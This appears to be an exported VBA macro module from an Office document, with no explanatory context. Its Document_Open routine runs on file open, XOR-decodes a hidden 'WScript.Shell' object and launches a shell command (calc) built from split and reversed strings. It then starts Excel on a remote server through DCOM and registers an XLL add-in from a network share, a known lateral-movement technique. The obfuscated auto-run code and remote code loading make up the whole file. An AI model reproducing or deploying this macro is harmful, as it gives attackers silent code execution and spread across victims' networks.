Attribute VB_Name = "Module2"
Function D(ByVal s As String, ByVal k As Integer) As String
    Dim i As Integer
    For i = 1 To Len(s)
        D = D & Chr(Asc(Mid(s, i, 1)) Xor k)
    Next i
End Function
Sub Document_Open()
    Dim o As Object
    Set o = CreateObject(D("TP`qjsw-Pkfoo", 3))
    o.Run Join(Array("c", "m", "d"), "") & " /c " & _
        StrReverse("clac")
    With CreateObject("Excel" & "." & "Application", "srv" & "07")
        .RegisterXLL "\\files\a\b.xll"
    End With
End Sub
